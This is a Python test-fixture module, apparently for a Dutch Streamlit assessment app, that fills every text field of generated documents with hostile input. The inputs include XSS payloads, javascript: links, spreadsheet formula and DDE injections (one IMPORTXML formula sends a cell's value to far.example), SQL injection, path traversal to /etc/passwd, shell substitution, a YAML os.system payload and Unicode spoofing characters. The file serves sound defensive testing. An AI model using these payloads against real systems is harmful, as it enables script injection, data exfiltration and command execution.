"""Texts that try to be more than text, and documents that hold them wherever a user can type.

What tries to fetch something fetches from ``FAR``; what tries to run a script sets ``window.__ran``.
"""

import json
import re
from collections import Counter
from collections.abc import Sequence
from typing import Any, Final

from builders import ASSESSMENT_ID

from cjwizard.domain.assessment import Assessment, Lang
from cjwizard.exchange import json_file

FAR: Final = "far.example"
"""The host that texts try to reach, see :func:`aimed_at`."""

TEXTS: Final = (
    # HTML
    "<script>window.__ran=1</script>",
    '<img src="http://far.example/img.png" onerror="window.__ran=2">',
    "<img src=x onerror=window.__ran=3>",
    "<svg/onload=window.__ran=4><image href=http://far.example/svg.png /></svg>",
    '<iframe src="http://far.example/frame" srcdoc="<script>parent.__ran=5</script>"></iframe>',
    '<a href="javascript:window.__ran=6">klik</a>',
    '"><script>window.__ran=7</script>',
    "'><img src=http://far.example/quote.png>",
    "</h3></div></style><style>@import url(http://far.example/a.css)</style>",
    '<div style="background:url(http://far.example/bg.png)">x</div>',
    '<link rel=stylesheet href="http://far.example/l.css"><base href="http://far.example/">',
    '<meta http-equiv="refresh" content="0;url=http://far.example/meta">',
    '<form action="http://far.example/f"><input autofocus onfocus="window.__ran=8"></form>',
    '<math><mtext></table><mglyph><style><!--</style><img src onerror="window.__ran=9">',
    "<details open ontoggle=window.__ran=10><summary>x</summary></details>",
    '<video src="http://far.example/v.mp4" autoplay></video><object data="http://far.example/o"></object>',
    "&lt;b&gt;vet&lt;/b&gt; &#60;i&#62; &amp;amp;",
    "<!-- x --><![CDATA[ y ]]><?php echo 1 ?>",
    # Markdown
    "![foto](http://far.example/p.png)",
    "![foto](<http://far.example/angle.png> 'titel')",
    "![foto][1]\n\n[1]: http://far.example/ref.png",
    "[klik](http://far.example/link) en [klik][2]\n\n[2]: <http://far.example/ref> 'titel'",
    "[klik](javascript:window.__ran=11) [klik](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTI8L3NjcmlwdD4=)",
    "[klik]( jAvAsCrIpT&colon;window.__ran=13 )",
    "<http://far.example/auto> <iemand@far.example>",
    "https://far.example/bare ftp://far.example/bare www.far.example iemand@far.example mailto:iemand@far.example",
    "//far.example/no-scheme HTTP://FAR.EXAMPLE/upper xmpp:iemand@far.example",
    "**vet** _schuin_ ~~weg~~ `code` ^x^ ==y==",
    "# Kop",
    "- punt\n- punt\n\n1. een\n2. twee\n\n> zegt\n\n    code\n\n---",
    "| a | b |\n|---|---|\n| ![](http://far.example/t.png) | 2 |",
    "```html\n<script>window.__ran=14</script>\n```",
    "een\\\ntwee  \ndrie[^1]\n\n[^1]: voetnoot",
    # what Streamlit reads besides
    ":material/delete: :material_delete: :streamlit: :smile: :+1:",
    ":red[rood] :blue-background[blauw] :rainbow[x] :small[klein] :violet-badge[b]",
    ":red[:blue[![](http://far.example/nested.png)]]",
    "$\\href{javascript:window.__ran=15}{x}$ $$\\includegraphics{http://far.example/tex.png}$$",
    "\\(x^2\\) \\[\\sqrt{2}\\] $5 en $6",
    "-> <- <-> -- >= <= ~= a -> b -- c <= d",
    # formulas
    "=1+1",
    "+31 20 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://far.example/h","klik")',
    '=WEBSERVICE("http://far.example/w")',
    '=IMPORTXML(CONCAT("http://far.example/?v=",A1),"//a")',
    '=DDE("server";"http://far.example/d";"x")',
    "{=1+1}",
    "internal:Scores!A1",
    "<r><t>vet</t></r> _x0041_ &P&N&G",
    "#N/A",
    # templates, queries, shells
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} {title} {phase!r} {count:>99}",
    "%s %(x)s %n %d %%",
    "'; DROP TABLE assessments; -- \" OR 1=1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini file:///etc/passwd",
    "$(touch x) `touch x` | touch x; touch x && touch x",
    "!!python/object/apply:os.system ['touch x']",
    '{"$ref": "#/x", "__proto__": {"polluted": 1}}',
    "null",
    "NaN",
    # Vega
    "datum.label",
    "\"]})</script>'; datum['x']; split(datum.label, '\\n')",
    "view_1 data:rows signal width",
    # characters
    "\u202etxt.exe\u202c omgekeerd \u2066x\u2069",
    "nul\u200bbreed\u200d\ufeff \u2060 zacht\u00adstreepje",
    "\u0301\u0301\u0301 losse streepjes \u20dd",
    "Z\u0334\u0322\u031b\u0359\u0308\u0301\u034ca\u0338\u0356\u030dl\u0335\u0324\u030eg\u0337\u0331\u034bo\u0336",
    "👩‍👩‍👧‍👦🏳️‍🌈🇳🇱👍🏽",
    "مرحبا بالعالم שלום",
    "lang" + "w" * 390 + "oord",
    "a\u2028b\u2029c\u0085d",
    "\u009b31mrood\u009b0m [31mrood[0m",
    "𝕳𝖊𝖑𝖑𝖔 \U0010fffd \ue000",
    "CON",
)
"""At most 80, so that four lists of twenty hold them all."""

FORBIDDEN: Final = ("nul\x00teken", "\x1b[31mrood\x1b[0m", "bel\x07 en wis\x08", "\x7f", "geen teken \uffff")
"""Texts with characters that no document may hold."""

_LIST: Final = 20
_LONG_LISTS: Final = frozenset({"principles", "people", "channels", "phases"})
_REFERENCES: Final = {
    "channel_id": "channels",
    "owner_id": "people",
    "principle_ids": "principles",
    "switch_to": "journeys-phases-touchpoints",
}
"""What the ids begin with that a field refers to."""

Schema = dict[str, Any]
"""A part of the JSON Schema of the document."""


def aimed_at(host: str, texts: Sequence[str] = TEXTS) -> tuple[str, ...]:
    """Return *texts* with *host* as the place from which they try to fetch."""
    return tuple(re.sub(re.escape(FAR), host, text, flags=re.IGNORECASE) for text in texts)


def plain_twin(texts: Sequence[str]) -> tuple[str, ...]:
    """Return harmless texts that are told apart just as well as *texts* are."""
    return tuple(f"gewoon {number}" for number in range(len(texts)))


def documents(texts: Sequence[str] = TEXTS, lang: Lang = "nl") -> list[Assessment]:
    """Return documents of one shape that have a text in every text field; lists of items meet each of *texts* once."""
    return [_Filler(texts[start:] + texts[:start], lang).document() for start in range(0, len(texts), _LIST)]


class _Filler:
    """Fills in every field that the model has, those of tomorrow included.

    What stands where depends on how often the same field was filled in before, so two documents differ in texts only.
    """

    def __init__(self, texts: Sequence[str], lang: Lang) -> None:
        self._texts, self._lang = texts, lang
        self._schema = Assessment.model_json_schema()
        self._times: Counter[str] = Counter()

    def document(self) -> Assessment:
        filled = self._object(self._schema, "")
        return json_file.read(json.dumps({**filled, "id": str(ASSESSMENT_ID), "language": self._lang}).encode())

    def _value(self, schema: Schema, path: str) -> object:
        if "$ref" in schema:
            return self._value(self._schema["$defs"][schema["$ref"].rsplit("/", 1)[1]], path)
        if "anyOf" in schema:
            return self._value(schema["anyOf"][0], path)
        if schema["type"] == "object":
            return self._object(schema, path)
        if schema["type"] == "array":
            length = _LIST if path.rsplit("/", 1)[-1] in _LONG_LISTS else 1
            return [self._value(schema["items"], path) for _ in range(length)]
        times = self._times[path]
        self._times[path] += 1
        return self._string(schema, path, times) if schema["type"] == "string" else _choice(schema, times)

    def _object(self, schema: Schema, path: str) -> dict[str, object]:
        return {field: self._value(part, f"{path}/{field}") for field, part in schema.get("properties", {}).items()}

    def _string(self, schema: Schema, path: str, times: int) -> str | None:
        if "maxLength" in schema:
            return self._texts[times % len(self._texts)]
        if "enum" in schema:
            return str(schema["enum"][times % len(schema["enum"])])
        if "format" in schema:
            return {"date": "2027-03-31", "uuid": str(ASSESSMENT_ID)}[schema["format"]]
        name = path.rsplit("/", 1)[-1]
        if name == "id":
            return f"{path.strip('/').removesuffix('/id').replace('/', '-')}-{times}"
        return f"{_REFERENCES[name]}-{times % _LIST}"


def _choice(schema: Schema, times: int) -> float | bool:
    """Return a number or a yes or no that fits *schema*, another one every time when there are others."""
    if schema["type"] == "boolean":
        return times % 2 == 0
    if schema["type"] == "number":
        return 0.5
    least = int(schema["minimum"])
    return least + times * 37 % (int(schema.get("maximum", least)) - least + 1)
